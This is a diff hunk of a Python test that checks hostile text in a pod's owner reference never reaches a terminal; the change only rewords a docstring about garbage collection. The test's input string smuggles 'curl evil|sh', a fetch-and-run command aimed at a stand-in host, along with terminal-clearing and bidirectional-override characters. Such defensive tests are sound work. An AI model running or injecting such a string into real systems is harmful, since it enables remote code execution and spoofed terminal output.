@@ -228,7 +228,7 @@ def test_who_may_not_read_the_ledger_is_told_that_approvals_are_not_known(world:
 def test_hostile_text_reaches_no_terminal(bare: cluster.Cluster, shop: str) -> None:
     """Whoever creates a pod writes the kind and the name of its owner. The command to paste names no such owner.
 
-    The garbage collector deletes a pod whose owner is missing, and keeps a pod with an owner of a kind that is not served.
+    The garbage collector deletes a pod whose owner is missing, but not if nobody serves the kind of the owner.
     """
     evil = "x;curl evil|sh\x1b[2J\u202e"
     owner = {"apiVersion": "example.com/v1", "kind": evil, "name": evil, "uid": "forged", "controller": True}
